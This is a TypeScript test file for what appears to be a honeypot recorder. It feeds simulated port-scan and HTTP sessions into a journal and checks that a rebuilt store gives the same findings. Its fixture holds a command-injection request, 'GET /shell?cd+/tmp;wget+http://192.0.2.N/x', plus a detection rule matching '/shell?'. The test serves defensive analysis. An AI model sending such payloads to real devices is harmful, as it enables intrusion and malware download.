// Analysis as the recorder has it, over a real store: what it finds in a journal, and that a store thrown away and made again
// from the journal holds the same.

import assert from 'node:assert/strict';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { systemClock } from '../base/clock.ts';
import { silentLog } from '../base/log.ts';
import { defaultAnalysis } from '../config/analysis-schema.ts';
import type { SessionStart } from '../model/session.ts';
import { DuckDbStore } from '../record/duckdb-store.ts';
import { JournalWriter } from '../record/journal-writer.ts';
import { Recorder } from '../record/recorder.ts';
import { SessionRecorder } from '../record/session-recorder.ts';
import { openAnalysis } from './recorder-analysis.ts';

const scanners = join(dirname(fileURLToPath(import.meta.url)), '../../../rules/scanners.yaml');
const rule = `
- { id: shell-download, name: Download, intention: exploit, severity: high, match: [{ contains: "/shell?" }] }
`;
/** The table of networks takes a second to pack: countries are enough here. */
const settings = { ...defaultAnalysis, geo: { asn: '/nonexistent.mmdb' } };
const everything = { limit: 10_000 };

const start = (ip: string, port: number): SessionStart => ({
  start: systemClock(),
  transport: 'tcp',
  source: { ip, port: 40_000 + port },
  destination: { ip: '198.51.100.1', port },
  sourceReliable: true,
  diversion: 'dmz',
  service: 'catch-all',
});

/** Reads the journals to their end as the recorder does, and gives what the store then says. */
async function findings(data: string): Promise<{ text: string; looked: number; faults: object }> {
  const store = await DuckDbStore.open({ dataDirectory: data });
  const { analyser, status } = openAnalysis({ settings, data, packageRoot: data, store, log: silentLog });
  const recorder = new Recorder({
    dataDirectory: data,
    store,
    retention: { days: 36_500, sizeBytes: 1e12 },
    clock: systemClock,
    log: silentLog,
    analysis: analyser,
    gatherMs: 5,
  });
  try {
    await recorder.start();
    const deadline = Date.now() + 20_000;
    const ended = async (): Promise<number> =>
      (await store.sessions(everything)).filter(({ outcome }) => outcome !== 'open').length;
    while ((await recorder.status()).lagBytes > 0 || (await ended()) < 43) {
      assert.ok(Date.now() < deadline, 'the journals are read in time');
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    await recorder.close();
    const sessions = await store.sessions(everything);
    const insights = (await store.insights(sessions)).sort((a, b) => (a.id < b.id ? -1 : 1));
    const found = {
      insights,
      verdicts: await store.verdicts(everything),
      families: await store.families(100),
      places: await store.places(['9.9.9.9', '8.8.8.8']),
      sources: await store.attackers('ports', everything),
    };
    const { analysis } = status();
    return { text: JSON.stringify(found, null, 1), looked: analysis.sessions, faults: analysis.faults };
  } finally {
    await recorder.close();
    await store.close();
  }
}

test('a store made again from the journal holds the same findings', async (context) => {
  const data = mkdtempSync(join(tmpdir(), 'weir-analysis-'));
  context.after(() => rmSync(data, { recursive: true, force: true }));
  mkdirSync(join(data, 'rules/signatures'), { recursive: true });
  writeFileSync(join(data, 'rules/signatures/own.yaml'), rule);
  copyFileSync(scanners, join(data, 'rules/scanners.yaml'));
  const journal = new JournalWriter({
    directory: join(data, 'journal', 'gateway'),
    clock: systemClock,
    log: silentLog,
    flushMs: 2,
  });
  const sessions = new SessionRecorder({ journal, limits: { sessionBytes: 100_000 }, flushMs: 2, clock: systemClock });
  for (let port = 1; port <= 40; port += 1) sessions.open(start('9.9.9.9', port)).close('client-closed');
  for (let visit = 0; visit < 3; visit += 1) {
    const session = sessions.open(start('8.8.8.8', 80));
    session.chunk('in', Buffer.from(`GET /shell?cd+/tmp;wget+http://192.0.2.${visit}/x HTTP/1.1\r\n`));
    // The rest comes in a record of its own.
    sessions.flush();
    session.chunk('in', Buffer.from('Host: 198.51.100.1\r\nUser-Agent: Hello, world\r\n\r\n'));
    session.close('client-closed');
  }
  sessions.close();
  await journal.close();
  const first = await findings(data);
  const told = JSON.parse(first.text);
  assert.equal(first.looked, 43);
  assert.deepEqual(first.faults, {});
  const scan = told.verdicts.find(({ behaviour }: { behaviour: string }) => behaviour === 'port-scan');
  assert.deepEqual([scan.source, scan.ports], ['9.9.9.9', 40]);
  assert.equal(told.families.length, 1, 'three payloads that differ in a digit');
  const facts = told.insights.flatMap((insight: { facts: { value: string }[] }) => insight.facts.map(({ value }) => value));
  assert.ok(facts.includes('http://192.0.2.2/x') && facts.includes('Hello, world'), facts.join('\n'));
  assert.equal(told.places.length, 2);
  assert.equal(told.insights.filter(({ signatures }: { signatures: object[] }) => signatures.length === 1).length, 3);
  assert.equal(told.sources[0].behaviours[0], 'port-scan');

  assert.equal((await findings(data)).text, first.text, 'a restart changes nothing');
  rmSync(join(data, 'store'), { recursive: true });
  const again = await findings(data);
  assert.equal(again.looked, 43);
  assert.equal(again.text, first.text);
});
